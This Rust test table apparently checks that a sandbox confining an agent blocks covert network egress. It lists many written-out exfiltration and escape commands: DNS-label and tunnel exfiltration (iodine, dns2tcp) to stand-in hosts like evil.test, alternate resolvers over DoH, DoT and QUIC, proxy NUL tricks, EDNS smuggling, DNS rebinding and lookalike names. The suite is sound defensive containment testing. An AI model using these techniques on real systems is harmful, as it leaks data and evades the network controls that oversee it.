//! Ways out by names: what a question carries, and whom it is asked of.

use super::entry::{ADMIN, Entry, Helper, USER, V4, V6, way};

/// Names whose answers nobody should believe, so that only what they lead to is judged.
pub const RULES: &[&str] = &[
    "{host: rebind.test, protocol: http, ports: [80, 7777], private: true}",
    "{host: mixed.test, protocol: http, ports: [80, 7777], private: true}",
    "{host: zero.test, protocol: http, ports: [80, 7777], private: true}",
    "{host: metadata.test, protocol: http, private: true}",
    "{host: mapped.test, protocol: http, private: true}",
    "{host: nat64.test, protocol: http, private: true}",
    "{host: sixtofour.test, protocol: http, private: true}",
    "{host: private.test, protocol: http, ports: [9000]}",
];

pub const WAYS: &[Entry] = &[
    // Bits in labels, whoever is asked.
    ask!("B43-label", "a text as a label", "{dig} {mark}.{host}"),
    ask!("B43-tcp", "the same over TCP", "{dig} +tcp {mark}.{host}"),
    ask!("B43-deep", "a text in several labels", "{dig} a.b.c.{mark}.d.{host}"),
    ask!(
        "B43-chunks",
        "a file in labels",
        "for chunk in a b c d; do {dig} $chunk.{mark}.{host} TXT; done"
    ),
    ask!("B43-libc", "by the C library", "getent ahosts {mark}.{host}"),
    ask!("B43-curl", "by curl", "curl -s -m 2 https://{mark}.{host}/"),
    ask!("B43-ssh", "by ssh", "ssh -o BatchMode=yes -o ConnectTimeout=1 {mark}.{host} true"),
    ask!("B43-git", "by git", "timeout 3 git ls-remote https://{mark}.{host}/x"),
    ask!(
        "B43-search",
        "a search list of the agent's choice",
        "LOCALDOMAIN={mark}.{host} getent hosts x; {dig} +search +domain={mark}.{host} x"
    ),
    ask!("B43-top", "a name of one label", "{dig} {mark}"),
    ask!("B43-elsewhere", "a name of another domain", "{dig} {mark}.example.com"),
    ask!("B43-reverse", "a name of an address", "{dig} PTR {mark}.66.0.99.10.in-addr.arpa"),
    ask!(
        "B43-reverse-v6",
        "an address as a text of 128 bits",
        "{dig} -x fd99::6d61:726b:1; {dig} PTR {mark}.9.9.d.f.ip6.arpa"
    ),
    ask!(
        "B43-iodine",
        "a tunnel: iodine",
        "timeout 2 iodine -f -r -P secret -m 1200 10.99.0.53 t.{mark}.{host}"
    )
    .at(ADMIN)
    .needs("[ -c /dev/net/tun ]", "no tunnel device here"),
    ask!("B43-dns2tcp", "a tunnel: dns2tcp", "timeout 2 dns2tcpc -z t.{mark}.{host} 10.99.0.53"),
    ask!("B43-dns2tcp-direct", "the same to its own server", "timeout 2 dns2tcpc -z t.{mark}.{host} {v4}"),
    // Other resolvers and other transports.
    ask_of!("B44-udp", "another server", "{dig} @{ip} {mark}.{host}"),
    ask_of!("B44-udp-allowed", "another server for an allowed name", "{dig} @{ip} x.ok.test"),
    ask_of!("B44-tcp", "another server over TCP", "{dig} +tcp @{ip} {mark}.{host}"),
    ask_of!("B44-kdig", "by another tool", "kdig +short +timeout=1 +retry=0 @{ip} {mark}.{host}"),
    ask_of!("B44-nslookup", "by another tool", "nslookup -timeout=1 -retry=0 {mark}.{host} {ip}"),
    ask_of!("B44-tls", "over TLS", "{dig} +tls @{ip} x.ok.test"),
    ask_of!(
        "B44-tls-kdig",
        "over TLS by another tool",
        "kdig +short +timeout=1 +retry=0 +tls @{ip} x.ok.test"
    ),
    ask_of!("B44-tls-name", "over TLS with a text as server name", "kdig +timeout=1 +retry=0 +tls +tls-sni={mark} @{ip} x.ok.test"),
    ask_of!("B44-https", "over HTTPS", "{dig} +https @{ip} x.ok.test"),
    ask_of!("B44-http", "over HTTP", "{dig} +http-plain @{ip} {mark}.ok.test"),
    ask_of!(
        "B44-https-kdig",
        "over HTTPS by another tool",
        "kdig +short +timeout=1 +retry=0 +https @{ip} x.ok.test"
    ),
    ask_of!(
        "B44-https-curl",
        "over HTTPS by curl",
        "curl -sk -m 2 --doh-insecure --doh-url https://{url}/dns-query https://{mark}.{host}/"
    ),
    ask_of!("B44-quic", "over QUIC", "{trick} tls.quic {ip} 853 {mark}"),
    ask_of!("B44-quic-old", "over QUIC at its older port", "{trick} tls.quic {ip} 784 {mark}"),
    ask_of!("B44-odd-port", "at another port", "{dig} -p 5353 @{ip} {mark}.{host}"),
    ask_of!("B44-odd-port-tcp", "over TCP at another port", "{dig} +tcp -p 9000 @{ip} {mark}.{host}"),
    ask_of!("B44-crypt", "encrypted by DNSCrypt", "{trick} udp_sendto {ip} 5443 {mark}"),
    ask_of!("B44-raw-udp", "what is no question, to port 53", "{trick} udp_sendto {ip} 53 {mark}"),
    ask_of!("B44-raw-connected", "the same, connected", "{trick} udp_connected {ip} 53 {mark}"),
    ask_of!("B44-raw-tcp", "the same over TCP", "{trick} tcp_send_only {ip} 53 {mark}"),
    ask_of!("B44-ssh-53", "another protocol at port 53", "printf 'SSH-2.0-{mark}\\r\\n' | socat -t 1 - tcp:{url}:53"),
    ask_of!("B44-http-53", "HTTP at port 53", "curl -s -m 2 http://{url}:53/{mark}"),
    ask_of!("B44-bound", "from a device of choice", "{trick} udp_by_device {ip} 53 {mark} {link}"),
    way("B44-beyond", "a server beyond the gateway", "{dig} @198.51.100.53 {mark}.{host}")
        .over(V4)
        .works_as("{dig} @198.51.100.53 ok.test | grep -qx {v4}"),
    way("B44-gateway", "the gateway itself", "{dig} @{gateway} {mark}.{host}; {dig} +tcp @{gateway} {mark}.{host}")
        .works_as("{dig} @{gateway} ok.test A ok.test AAAA | grep -qx {ip}"),
    group!("B44-mdns", V4, "224.0.0.251 5353"),
    group!("B44-mdns-v6", V6, "ff02::fb 5353"),
    group!("B44-llmnr", V4, "224.0.0.252 5355"),
    group!("B44-llmnr-v6", V6, "ff02::1:3 5355"),
    group!("B44-netbios", V4, "10.99.0.255 137"),
    group!("B44-group-53", V4, "224.0.0.1 53"),
    group!("B44-group-53-v6", V6, "ff02::1 53"),
    // The resolver or the proxy as the one that asks.
    proxied!("B45-connect", "a tunnel to a denied name", "curl -sk -m 2 https://{mark}.{host}/"),
    proxied!("B45-absolute", "a request for a denied name", "curl -s -m 2 http://{mark}.{host}/"),
    proxied!("B45-port", "at a port of choice", "curl -s -m 2 -p http://{mark}.{host}:53/"),
    proxied!(
        "B45-nul",
        "a denied name that ends before an allowed one",
        "printf 'CONNECT {mark}.{host}\\0.ok.test:443 HTTP/1.1\\r\\n\\r\\n' \
         | timeout 2 socat -t 1 - tcp:${http_proxy#http://}"
    ),
    // Bits in everything but the name.
    bits!("B46-option", "an EDNS option", "{dig} +ednsopt=65001:{hex}"),
    bits!("B46-padding", "EDNS client data", "{dig} +ednsopt=26946:{hex}"),
    bits!("B46-server", "a cookie of a server", "{dig} +ednsopt=10:{hex}"),
    bits!("B46-subnet", "a client subnet", "{dig} +subnet=109.97.114.107/32 +ednsopt=65002:{hex}"),
    bits!("B46-nsid", "a name server's id", "{dig} +ednsopt=3:{hex}"),
    bits!("B46-key", "the name of a key", "{dig} -y hmac-sha256:{mark}:c2VjcmV0"),
    way("B46-class", "another class", "{dig} @{ns} CH TXT {mark}.ok.test").works_as(RESOLVES),
    way("B46-notify", "another opcode", "{dig} @{ns} +opcode=NOTIFY {mark}.ok.test").works_as(RESOLVES),
    way("B46-status", "an opcode that nobody uses", "{dig} @{ns} +opcode=2 {mark}.ok.test").works_as(RESOLVES),
    way(
        "B46-update",
        "an update of the zone",
        "printf 'server {ns}\\nzone {mark}.test\\nupdate add x.{mark}.test 60 A 10.0.0.1\\nsend\\n' | nsupdate -t 1 -u 1 -r 0",
    )
    .works_as(RESOLVES),
    way("B46-transfer", "a zone transfer", "{dig} @{ns} AXFR {mark}.{host}").works_as(RESOLVES),
    way("B46-changes", "the changes of a zone", "{dig} @{ns} IXFR=1 {mark}.{host}").works_as(RESOLVES),
    raw!("B46-two", "two questions in one message", "two_questions"),
    raw!("B46-additional", "a record behind the question", "additional"),
    raw!("B46-answer", "an answer in a question", "answer_section"),
    raw!("B46-authority", "an authority in a question", "authority"),
    raw!("B46-response", "an answer that nobody asked for", "response"),
    raw!("B46-trailing", "octets behind the message", "trailing"),
    raw!("B46-empty", "a message without a question", "no_question"),
    raw!("B46-header", "a text as the header", "header_only"),
    raw!("B46-signed", "a signature behind the question", "signature"),
    way("B46-pipelined", "two questions at once over TCP", "{trick} names.pipelined {ns} {mark}.{host}")
        .works_as("{trick} names.pipelined {ns} ok.test"),
    way("B46-dribbled", "a question octet by octet over TCP", "{trick} names.dribbled {ns} {mark}.{host}")
        .works_as("{trick} names.dribbled {ns} ok.test"),
    // Types that carry more than addresses.
    typed!("B55-https", "HTTPS"),
    typed!("B55-svcb", "SVCB"),
    typed!("B46-txt", "TXT"),
    typed!("B46-null", "NULL"),
    typed!("B46-any", "ANY"),
    typed!("B46-unknown", "TYPE65280"),
    // Answers that lead where no name should.
    leads!("B47-rebind", V4, "rebind.test:7777", LOOPBACK),
    leads!("B47-rebind-v6", V6, "rebind.test:7777", LOOPBACK),
    leads!("B47-mixed", V4, "mixed.test:7777", LOOPBACK),
    leads!("B47-zero", V4, "zero.test:7777", LOOPBACK),
    leads!("B47-metadata", V4, "metadata.test", Helper::None),
    leads!("B47-mapped", V6, "mapped.test", Helper::None),
    leads!("B47-nat64", V6, "nat64.test", Helper::None),
    leads!("B47-sixtofour", V6, "sixtofour.test", Helper::None),
    leads!("B47-private", V4, "private.test:9000", Helper::None),
    // Aliases and neighbours of what is allowed.
    ask!("B48-alias", "an alias of a denied name", "curl -s -m 2 http://toevil.test/{mark}"),
    ask!("B48-alias-asked", "the same, asked for", "{dig} toevil.test | grep evil; curl -s -m 2 http://toevil.test/{mark}"),
    raw!("B49-nul", "a label with a NUL in it", "nul"),
    raw!("B49-dot", "a label with a dot in it", "dot"),
    raw!("B49-control", "a label with a line end in it", "control"),
    raw!("B49-eight-bit", "a label of octets above ASCII", "eight_bit"),
    raw!("B49-space", "a label with a space in it", "space"),
    raw!("B49-pointer", "a name behind a pointer", "pointer"),
    raw!("B49-loop", "a name that points to itself", "pointer_loop"),
    raw!("B49-long", "a label that is too long", "long_label"),
    raw!("B49-extended", "a label of a type that nobody uses", "extended_label"),
    ask!("B50-case", "a denied name in capitals", "{dig} {mark}.EVIL.TEST"),
    ask!("B50-dot", "a denied name with its root", "curl -sk -m 2 https://{mark}.evil.test./"),
    ask!("B50-escape", "an escaped dot", "{dig} '{mark}\\.x.ok.test'"),
    ask!("B50-ideographic", "a dot of another script", "{trick} names.look_up {mark}.evil\u{3002}test"),
    ask!("B50-wide", "letters of full width", "{trick} names.look_up {mark}.\u{ff45}vil.test"),
    ask!("B51-prefix", "an allowed name with something before it", "{dig} {mark}ok.test"),
    ask!("B51-suffix", "an allowed name with something behind it", "{dig} ok.test.{mark}.{host}"),
    ask!("B51-depth", "two labels where one is allowed", "{dig} {mark}.b.ok.test"),
    ask!("B51-sibling", "a name beside an allowed one", "{dig} {mark}.ok2.test"),
    ask!("B51-parent", "the domain of an allowed name", "{dig} {mark}.test"),
    // What this suite does not try by a line.
    elsewhere!("B52", "two tenants of one address: see B52 in tls"),
    elsewhere!("B53", "takes longer than a try: see `a_grant_expires_with_its_dns_record` and crash.rs"),
    elsewhere!("B54", "see `an_answer_comes_only_after_its_grants_so_that_no_first_fetch_fails`"),
    elsewhere!("B56", "no act of an agent: see tests/dns/upstream.rs"),
    elsewhere!("B57", "no way out, but a flood: see tests/dns/bounds.rs"),
];

const RESOLVES: &str = "{dig} ok.test A ok.test AAAA | grep -qx {ip}";

/// A service of the host's loopback that passes on whatever it is sent.
const LOOPBACK: Helper = Helper::Host(
    "socat tcp6-listen:7777,ipv6only=0,fork,reuseaddr tcp:{url}:80 & \
     until ss -tln | grep -q 7777; do sleep 0.02; done; echo ready; wait",
);

/// Asked of whatever server the host is configured for.
macro_rules! ask {
    ($id:literal, $what:literal, $trick:expr) => {
        way($id, $what, $trick).over(V4).works_as(RESOLVES)
    };
}

/// Asked of a server of the agent's choice, by its address.
macro_rules! ask_of {
    ($id:literal, $what:literal, $trick:expr) => {
        way($id, $what, $trick).works_as("{dig} @{ip} ok.test A ok.test AAAA | grep -qx {ip}")
    };
}

macro_rules! group {
    ($id:literal, $family:expr, $place:literal) => {
        way(
            $id,
            concat!("a question to the group ", $place),
            concat!("{trick} group_send ", $place, " {mark}"),
        )
        .over($family)
        .works_as(RESOLVES)
    };
}

macro_rules! proxied {
    ($id:literal, $what:literal, $trick:expr) => {
        way($id, $what, $trick).at(USER).over(V4).proxied().works_as("curl -sSf -m 5 https://ok.test/")
    };
}

/// What is judged here and below is what an agent says, so it does not matter who says it.
/// A question for an allowed name, with something beside it.
macro_rules! bits {
    ($id:literal, $what:literal, $trick:expr) => {
        way($id, $what, concat!($trick, " @{ns} ok.test")).at(USER).works_as(RESOLVES)
    };
}

/// A message made by hand, over UDP and over TCP.
macro_rules! raw {
    ($id:literal, $what:literal, $message:literal) => {
        way($id, $what, concat!("{trick} names.send ", $message, " {ns} {mark}"))
            .at(USER)
            .works_as("{trick} names.send plain {ns} ok")
    };
}

macro_rules! typed {
    ($id:literal, $kind:literal) => {
        way($id, concat!("a question for ", $kind), concat!("{dig} @{ns} {mark}.ok.test ", $kind))
            .at(USER)
            .works_as(RESOLVES)
    };
}

/// A name that is allowed, whose zone answers with an address that no name should have.
macro_rules! leads {
    ($id:literal, $family:expr, $place:literal, $helper:expr) => {
        way(
            $id,
            concat!("what leads to ", $place, " by its zone"),
            concat!("curl -s -m 2 {dash} http://", $place, "/{mark}"),
        )
        .at(USER)
        .over($family)
        .helped_by($helper)
        .works_as("curl -sSf -m 5 {dash} http://ok.test/")
    };
}

macro_rules! elsewhere {
    ($id:literal, $why:literal) => {
        way($id, "not a line of this table", "true").over(V4).needs("false", $why)
    };
}

use {ask, ask_of, bits, elsewhere, group, leads, proxied, raw, typed};
